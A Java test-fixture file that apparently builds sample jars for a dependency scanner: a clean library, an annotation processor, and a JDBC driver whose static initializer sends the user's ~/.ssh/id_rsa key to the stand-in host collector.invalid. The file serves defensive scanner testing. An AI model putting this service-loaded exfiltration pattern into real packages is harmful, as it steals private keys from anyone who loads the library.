package dev.gatehouse.proxy.cli;

import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** A small local Maven repository of fixture jars, built from source text and never run. */
final class ScanFixtures {
  private ScanFixtures() {}

  /** Lays out a clean library, an exfiltrating JDBC driver and an untrusted annotation processor under {@code root}. */
  static Path repository(Path root) throws IOException {
    Path repository = root.resolve("repository");
    put(repository, "org/example/clean/1.0/clean-1.0.jar", JarFixture.builder()
        .javaSource("fixture/Table", """
            package fixture;
            public class Table { static final int[] SQUARES = new int[16];
              static { for (int i = 0; i < 16; i++) SQUARES[i] = i * i; } }
            """).toBytes());
    put(repository, "org/example/beacon/1.0/beacon-1.0.jar", JarFixture.builder()
        .service("java.sql.Driver", "fixture.Beacon")
        .javaSource("fixture/Beacon", """
            package fixture;
            import java.nio.file.*;
            public class Beacon { static { try (var s = new java.net.Socket("collector.invalid", 443)) {
              s.getOutputStream().write(Files.readAllBytes(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")));
            } catch (Exception e) { } } }
            """).toBytes());
    put(repository, "org/example/codegen/1.0/codegen-1.0.jar", JarFixture.builder()
        .service("javax.annotation.processing.Processor", "fixture.Rewriter")
        .javaSource("fixture/Rewriter", """
            package fixture;
            import java.util.Set;
            import javax.annotation.processing.*;
            import javax.lang.model.element.TypeElement;
            public class Rewriter extends AbstractProcessor {
              @Override public boolean process(Set<? extends TypeElement> a, RoundEnvironment r) { return false; }
            }
            """).toBytes());
    return repository;
  }

  private static void put(Path repository, String path, byte[] jar) throws IOException {
    Path file = repository.resolve(path);
    Files.createDirectories(file.getParent());
    Files.write(file, jar);
  }
}
